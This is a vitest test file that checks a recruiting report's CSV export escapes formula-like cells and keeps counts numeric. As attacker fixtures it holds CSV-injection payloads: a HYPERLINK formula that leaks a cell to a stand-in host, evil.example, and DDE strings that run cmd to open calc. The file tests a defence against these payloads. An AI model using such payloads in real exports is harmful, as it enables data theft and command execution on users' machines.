// A CSV opened in a spreadsheet runs any cell that starts like a formula: a source stored before sources had
// an alphabet (or any other text a report shows) must come out as text, with a leading quote, while the
// figures the report itself writes stay numbers (docs/decisions/0043).
import { describe, expect, it } from 'vitest';
import { RECRUITING_REPORT_PATH } from '../../../contracts/api-paths';
import { toCsv } from '../../../contracts/csv';
import { recruitingReportSchema } from '../../../contracts/reports';
import { applicationStatusHistory, applications } from '../../../server/db/schema';
import { bearer, createStaff, injectSignIn } from '../../support/server/auth';
import { insertCareer } from '../../support/server/careers-fixtures';
import { setupTestApp } from '../../support/server/test-app';
import { getTestDatabase } from '../../support/server/test-database';

const ctx = setupTestApp();

/** The attacker's sources, as a row written before the alphabet would hold them. */
const HYPERLINK = '=hyperlink("http://evil.example/?leak="&a2,"open")';
const DDE = "+cmd|' /c calc'!a0";
const SUM = "@sum(1+1)*cmd|' /c calc'!a0";

describe('the per-source CSV of the recruiting report', () => {
  it('writes a formula-like source as quoted text and the counts as numbers', async () => {
    const { db } = await getTestDatabase();
    const career = await insertCareer();
    for (const [index, source] of [HYPERLINK, DDE, SUM].entries()) {
      const [row] = await db
        .insert(applications)
        .values({
          careerId: career.id,
          fullName: 'Applicant',
          email: `a${index}@example.com`,
          mobile: '+91 98765 43210',
          source,
          consentAt: new Date(),
        })
        .returning({ id: applications.id });
      if (!row) throw new Error('not inserted');
      await db.insert(applicationStatusHistory).values({ applicationId: row.id, toStatus: 'APPLIED' });
    }
    await createStaff(db, { username: 'rita', role: 'RECRUITER' });
    const res = await ctx.app.inject({
      method: 'GET',
      url: RECRUITING_REPORT_PATH,
      headers: bearer(await injectSignIn(ctx.app, 'rita')),
    });
    expect(res.statusCode, res.body).toBe(200);
    // The rows as the reports page writes them (src/features/admin/reports/reports-page.tsx).
    const rows = recruitingReportSchema
      .parse(res.json())
      .sources.map((row) => [row.source ?? 'Not recorded', row.applicants, row.hires]);
    const lines = toCsv(['Source', 'Applicants', 'Hires'], rows).split('\r\n');
    expect(lines[0]).toBe('Source,Applicants,Hires');
    expect(lines.slice(1).sort()).toEqual(
      [
        `"'=hyperlink(""http://evil.example/?leak=""&a2,""open"")",1,0`,
        `'+cmd|' /c calc'!a0,1,0`,
        `'@sum(1+1)*cmd|' /c calc'!a0,1,0`,
      ].sort(),
    );
  });
});

describe('a CSV cell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+cmd', "'-1+cmd"],
    ['@sum(a1)', "'@sum(a1)"],
    ['\tx', `'\tx`],
    ['\rx', `"'\rx"`],
    ['=a,b', `"'=a,b"`],
  ])('that starts like a formula (%j) is written as text: %j', (cell, written) => {
    expect(toCsv(['h'], [[cell]])).toBe(`h\r\n${written}`);
  });

  it('keeps plain text, the figures written as numbers (negative too) and empty cells as they are', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [['linkedin', -1, 2.5, null, 'a=b']])).toBe(
      'a,b,c,d,e\r\nlinkedin,-1,2.5,,a=b',
    );
  });

  it('neutralises the header too', () => {
    expect(toCsv(['=title'], [])).toBe("'=title");
  });
});
